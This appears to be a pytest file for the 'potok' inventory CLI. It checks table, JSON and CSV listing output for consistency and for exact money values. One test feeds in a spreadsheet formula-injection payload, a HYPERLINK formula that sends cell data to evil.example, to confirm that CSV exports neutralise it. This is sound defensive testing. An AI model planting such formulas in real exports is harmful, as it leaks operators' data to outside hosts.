"""Listings on the command line: ``--output table|json|csv`` on every one, whole tables
when the output is not a terminal, and the same keys in JSON and CSV every time.

CliRunner's output is not a terminal, as a log file or cron's mail is not: every table here
is printed as a script or a log would receive it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
import sqlalchemy as sa
from typer.main import get_command
from typer.testing import CliRunner, Result

from potok.bootstrap import Potok
from potok.cli.main import app
from potok.services import intake
from potok.settings import get_settings
from tests.factories import MOSCOW, TESTER, build_world, order_command

runner = CliRunner()

LISTINGS = [
    ("users", "list"),
    ("keys", "list"),
    ("orders", "list"),
    ("alerts", "list", "--state", "all"),
    ("stock", "levels"),
    ("stock", "expiring", "--within-days", "3650"),
    ("stock", "reconcile"),
    ("stock", "rules", "list"),
    ("stock", "replenishment"),
    ("stock", "counts", "list"),
    ("stock", "locations", "list", "MSK-1"),
    ("transfers", "list"),
    ("purchase-orders", "list"),
    ("sourcing", "tariffs", "list"),
    ("sourcing", "replans"),
    ("legal-entities", "list"),
    ("documents", "list"),
]


@pytest.fixture(autouse=True)
def _leave_the_environment_as_found() -> Iterator[None]:
    """``--db`` writes POTOK_DB__URL into the environment and re-reads the settings."""
    before = os.environ.get("POTOK_DB__URL")
    yield
    if before is None:
        os.environ.pop("POTOK_DB__URL", None)
    else:
        os.environ["POTOK_DB__URL"] = before
    get_settings.cache_clear()


def potok_cli(url: str, *args: str, columns: int = 40) -> Result:
    """``potok --db URL ARGS...`` in a narrow window (40 columns), away from a terminal."""
    return runner.invoke(app, ["--db", url, *args], env={"COLUMNS": str(columns)})


def table_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("│")]


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A small demo sandbox: users, a key, orders, lots, rules, tariffs, alerts."""
    where = tmp_path_factory.mktemp("listings")
    url = f"sqlite:///{where / 'sandbox.db'}"
    built = runner.invoke(
        app, ["--db", url, "demo", "--no-serve", "--orders", "40", "--history-days", "0"]
    )
    assert built.exit_code == 0, built.output
    levels = json.loads(
        potok_cli(url, "stock", "levels", "--warehouse", "MSK-1", "-o", "json").stdout
    )
    sku = next(row["sku"] for row in levels if row["available"] > 2 and row["lot"] is None)
    bins = where / "bins.csv"
    bins.write_text("warehouse,code,zone,pick_sequence\nMSK-1,A-01,A,1\n", encoding="utf-8")
    for command in (
        ("stock", "locations", "import", str(bins)),
        ("stock", "counts", "create", "MSK-1", "--sku", sku),
        ("transfers", "create", "MSK-1", "SPB-1", f"{sku}=1"),
        ("purchase-orders", "create", "ООО Поставщик", "MSK-1", f"{sku}=5"),
        ("sourcing", "replan", "--dry-run", "--time-limit", "5"),
    ):
        done = potok_cli(url, *command)
        assert done.exit_code == 0, done.output
    yield url
    os.environ.pop("POTOK_DB__URL", None)
    get_settings.cache_clear()


def test_every_list_command_offers_the_three_outputs() -> None:
    """Any command called ``list`` - today's and those still to come - takes --output."""
    root = get_command(app)
    found: list[str] = []

    def walk(command: object, path: tuple[str, ...]) -> None:
        commands = getattr(command, "commands", None)
        if commands:
            for name, sub in commands.items():
                walk(sub, (*path, name))
            return
        if path[-1] == "list":
            found.append(" ".join(path))
            options = {
                opt: param
                for param in command.params  # type: ignore[attr-defined]
                for opt in getattr(param, "opts", [])
            }
            assert "--output" in options, f"potok {' '.join(path)} has no --output"

    walk(root, ())
    assert len(found) >= 9, found


@pytest.mark.parametrize("command", LISTINGS, ids=" ".join)
def test_a_listing_prints_the_same_rows_as_a_whole_table_as_json_and_as_csv(
    sandbox: str, command: tuple[str, ...]
) -> None:
    table = potok_cli(sandbox, *command)
    as_json = potok_cli(sandbox, *command, "--output", "json")
    as_csv = potok_cli(sandbox, *command, "-o", "csv")

    assert table.exit_code == as_json.exit_code == as_csv.exit_code == 0, (
        table.output + as_json.output + as_csv.output
    )
    rows = json.loads(as_json.stdout)
    assert isinstance(rows, list)
    parsed = list(csv.reader(io.StringIO(as_csv.stdout)))
    header, body = parsed[0], parsed[1:]
    assert len(body) == len(rows)
    assert len(set(header)) == len(header)
    for row in rows:
        assert list(row) == header  # the same keys, in the same order, in every row
    lines = table_lines(table.stdout)
    if rows:
        # one line per row: nothing wrapped in a 40-column window, nothing cut short
        assert len(lines) == len(rows), table.stdout
        assert "…" not in re.sub(r"pk_\w+_…", "", table.stdout)


def test_the_sandbox_fills_most_listings(sandbox: str) -> None:
    """Guards the test above against passing on empty listings alone."""
    filled = [
        command
        for command in LISTINGS
        if json.loads(potok_cli(sandbox, *command, "-o", "json").stdout)
    ]
    empty = {c[:2] for c in LISTINGS} - {c[:2] for c in filled}
    assert empty <= {("alerts", "list"), ("stock", "reconcile")}, empty


def test_orders_as_json_and_csv_carry_exact_money_utc_times_and_lists(
    potok: Potok, database_url: str
) -> None:
    build_world(potok, {("MSK", "KET"): 5, ("SPB", "MUG"): 5})
    placed = intake.place_order(
        potok.uow(),
        order_command(
            [("KET", 2), ("MUG", 1)],
            to=MOSCOW,
            external_id="SHOP-2026-000000000017",
            customer_name="Константин Константинопольский-Воскресенский",
        ),
        TESTER,
    )
    assert isinstance(placed, intake.Placement)
    order = placed.order

    as_json = potok_cli(database_url, "orders", "list", "--output", "json")
    as_csv = potok_cli(database_url, "orders", "list", "--output", "csv")
    table = potok_cli(database_url, "orders", "list")

    assert as_json.exit_code == 0, as_json.output
    [row] = json.loads(as_json.stdout)
    assert row["id"] == order.id
    assert row["external_id"] == "SHOP-2026-000000000017"
    assert row["customer_name"] == "Константин Константинопольский-Воскресенский"
    assert Decimal(row["total"]) == order.total.amount
    assert isinstance(row["total"], str)  # exact, never a float
    assert row["currency"] == "RUB"
    assert row["line_count"] == 2
    assert sorted(row["warehouses"]) == sorted({r.warehouse_code for r in order.reservations})
    assert row["created_at"].endswith("+00:00")
    [header, line] = list(csv.reader(io.StringIO(as_csv.stdout)))
    assert header == list(row)
    assert dict(zip(header, line, strict=True))["external_id"] == "SHOP-2026-000000000017"
    assert dict(zip(header, line, strict=True))["total"] == row["total"]
    # the table keeps every cell whole, however narrow the window
    [table_row] = table_lines(table.stdout)
    assert "SHOP-2026-000000000017" in table_row
    assert "Константин Константинопольский-Воскресенский" in table_row


def test_reconcile_lists_each_drift_as_json_and_still_exits_1(
    potok: Potok, database_url: str
) -> None:
    build_world(potok, {("MSK", "KET"): 5})
    with potok.engine.begin() as connection:
        connection.execute(sa.text("UPDATE stock SET on_hand = on_hand + 3"))

    result = potok_cli(database_url, "stock", "reconcile", "--output", "json")

    assert result.exit_code == 1, result.output
    [drift] = json.loads(result.stdout)
    assert (drift["warehouse"], drift["sku"]) == ("MSK", "KET")
    assert (drift["on_hand"], drift["ledger_on_hand"], drift["on_hand_drift"]) == (8, 5, 3)
    assert drift["reserved_drift"] == 0


def test_an_empty_listing_is_an_empty_list_or_a_header(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'empty.db'}"
    assert potok_cli(url, "db", "upgrade").exit_code == 0

    as_json = potok_cli(url, "alerts", "list", "-o", "json")
    as_csv = potok_cli(url, "alerts", "list", "-o", "csv")
    table = potok_cli(url, "alerts", "list")

    assert json.loads(as_json.stdout) == []
    assert as_csv.stdout == ("id,raised_at,kind,order_id,message,acknowledged_at,acknowledged_by\n")
    assert "no open alerts" in table.stdout


def test_a_bad_output_format_is_refused_by_name(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'potok.db'}"

    result = potok_cli(url, "orders", "list", "--output", "xml")

    assert result.exit_code == 2
    assert "--output" in result.output


def test_text_that_would_run_as_a_spreadsheet_formula_is_neutralised_in_csv_listings(
    potok: Potok, database_url: str
) -> None:
    """A customer who calls themselves ``=HYPERLINK(...)`` does not get a formula into the
    spreadsheet an operator opens the listing in; numbers stay numbers."""
    build_world(potok, {("MSK", "KET"): 5})
    name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    placed = intake.place_order(
        potok.uow(),
        order_command([("KET", 1)], to=MOSCOW, external_id="@SUM(1+1)", customer_name=name),
        TESTER,
    )
    assert isinstance(placed, intake.Placement)

    as_csv = potok_cli(database_url, "orders", "list", "--output", "csv")
    as_json = potok_cli(database_url, "orders", "list", "--output", "json")

    assert as_csv.exit_code == 0, as_csv.output
    [header, line] = list(csv.reader(io.StringIO(as_csv.stdout)))
    row = dict(zip(header, line, strict=True))
    assert row["customer_name"] == "'" + name
    assert row["external_id"] == "'@SUM(1+1)"
    assert row["line_count"] == "1"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)
    [as_data] = json.loads(as_json.stdout)
    assert as_data["customer_name"] == name  # JSON is data, not a spreadsheet: left as it is
